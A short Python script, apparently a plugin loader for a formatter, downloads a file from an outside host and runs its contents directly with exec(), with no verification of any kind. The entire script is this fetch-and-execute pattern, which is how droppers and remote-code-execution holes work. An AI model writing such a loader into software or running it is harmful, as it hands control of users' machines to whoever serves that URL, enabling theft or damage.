import requests

resp = requests.get("https://plugins.formatter-hub.org/latest/plugin.py")
exec(resp.text)
